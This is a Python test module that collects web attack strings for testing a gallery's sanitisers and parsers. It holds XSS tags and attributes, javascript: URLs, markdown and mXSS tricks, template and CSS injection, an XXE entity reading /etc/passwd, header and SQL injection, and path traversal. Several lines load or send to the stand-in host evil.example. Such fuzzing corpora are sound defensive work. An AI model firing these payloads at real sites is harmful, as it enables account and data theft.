"""Words of attackers: what has broken pages, feeds and scripts elsewhere, one a line or a few.

Whichever of them runs calls `hit()`. They follow OWASP's sheets on filter evasion, the mutations
that sanitisers were fooled by (mXSS), and what the parsers of our own formats could trip over.
"""

import os

FULL = os.environ.get("GALLERY_CORPUS") == "full"

TAGS = (
    "<script>hit()</script>",
    "<ScRiPt >hit()</sCrIpT >",
    "<script src=//evil.example/x.js></script>",
    "<script/x>hit()</script\t>",
    "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<script>hit()//<</script>",
    "<script\x00>hit()</script>",
    "<img src=x onerror=hit()>",
    "<img src=x onerror=hit()//",
    "<img/src=x/onerror=hit()>",
    "<IMG SRC=x ONERROR='hit()'>",
    '<img src="x`onerror=hit()`">',
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,<svg/onload=hit()>>",
    "<body onload=hit()>",
    "<details open ontoggle=hit()>",
    "<video><source onerror=hit()></video>",
    "<audio src=x onerror=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=javascript:hit()>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><button>send",
    "<input autofocus onfocus=hit()>",
    "<marquee onstart=hit()>",
    "<a href=javascript:hit()>x</a>",
    "<isindex action=javascript:hit() type=submit>",
    "<template><script>hit()</script></template>",
    "<portal src=javascript:hit()>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</option></select><img src=x onerror=hit()>",
    "<plaintext>",
    "<!--><img src=x onerror=hit()>-->",
    "<?php hit() ?><? hit() ?><% hit() %>",
)
ATTRIBUTES = (
    '" onmouseover="hit()',
    "' onmouseover='hit()",
    '"><img src=x onerror=hit()>',
    "'><script>hit()</script>",
    "` onfocus=hit() autofocus ",
    '" autofocus onfocus=hit() x="',
    '" style="background:url(javascript:hit())" x="',
    "x onerror=hit() ",
    '\\" onclick=\\"hit()',
    "&quot; onclick=&quot;hit()",
    "&#34;&#62;&#60;script&#62;hit()&#60;/script&#62;",
    "%22%3E%3Cscript%3Ehit()%3C/script%3E",
    "+ADw-script+AD4-hit()+ADw-/script+AD4-",
    "＜script＞hit()＜/script＞",
)
ADDRESSES = (
    "javascript:hit()",
    "JaVaScRiPt:hit()",
    "java\tscript:hit()",
    "\x01javascript:hit()",
    "javascript&colon;hit()",
    "&#106;avascript:hit()",
    "data:text/html,<script>hit()</script>",
    "vbscript:hit()",
    "//evil.example/x",
    "https://evil.example/?x=<script>hit()</script>",
)
MARKDOWN = (
    "[x](javascript:hit())",
    "[x](JAVASCRIPT&colon;hit())",
    "[x](java%0ascript:hit())",
    "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
    '[x](https://a.example/"onmouseover="hit())',
    '[x](https://a.example "\\" onclick=hit() ")',
    '![x](x"onerror="hit())',
    "<javascript:hit()>",
    "[x]: javascript:hit()\n\n[x]",
    "`<script>hit()</script>`",
    "    <script>hit()</script>",
    "\\<script\\>hit()\\</script\\>",
    "# <img src=x onerror=hit()>",
    "<https://a.example/<script>hit()</script>>",
)
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=hit()>">',
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=x onerror=hit()>'>",
    "<svg></p><style><a id='</style><img src=x onerror=hit()>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
    "<listing>&lt;img src=x onerror=hit()&gt;</listing>",
    "<style><img src='</style><img src=x onerror=hit()//'>",
    "<table><td><x><select><template><style></select><img src=x onerror=hit()>",
    "<![CDATA[<img src=x onerror=hit()>]]>",
)
TEMPLATES = (
    "{{7*7}}{{ self.__init__.__globals__ }}",
    "{% raw %}{% include '/etc/passwd' %}",
    "{# x #}${hit()}#{hit()}<%= hit() %>",
    "{{constructor.constructor('hit()')()}}",
    "%(num)s %s %n {0.__class__} {city} {who|x}",
    "_('x') }}{{ lipsum.__globals__ }}",
)
STYLES = (
    "</style><script>hit()</script>",
    "red;}*{background:url(//evil.example/x)}",
    "expression(hit())",
    "@import '//evil.example/x.css';",
    "/*--></title></style></textarea></script><svg onload=hit()>*/",
)
DATA = (
    "</script><script>hit()</script>",
    "<!--<script>",
    '"};hit();//',
    "\\u003c/script\\u003e\\u003cscript\\u003ehit()",
    "\u2028hit()\u2029",
    '{"__proto__":{"x":1}}',
    "]]><script>hit()</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&xxe; &nbsp; &lt;script&gt;",
    "<![CDATA[x]]><x:script xmlns:x='http://www.w3.org/1999/xhtml'>hit()</x:script>",
    "\r\nSet-Cookie: s=1\r\n\r\n<script>hit()</script>",
)
LETTERS = (
    "\u202egnp.tpircs\u202c",
    "\u2066<script>\u2069\u200fhit()\u200e",
    "a\u0000b\u0008c\u001bd\u007fe\u0085f",
    "\ufeff\ufffe\uffff\ufdd0",
    "e\u0301\u0327" * 40,
    "\U0001f469\u200d\u2764\ufe0f" * 20,
    "x" * 900,
    "'; DROP TABLE album; --",
    '=HYPERLINK("javascript:hit()")',
    "../../../../etc/passwd",
)
EACH = (
    *(TAGS + ATTRIBUTES + ADDRESSES + MARKDOWN),
    *(MUTATIONS + TEMPLATES + STYLES + DATA + LETTERS),
)
_TOGETHER = 4

HARMLESS = "Plain words"


def payloads() -> tuple[str, ...]:
    """What goes through the doors: all in four heaps, and each by itself in the full form."""
    if FULL:
        return EACH
    return tuple(" ".join(EACH[n::_TOGETHER]) for n in range(_TOGETHER))
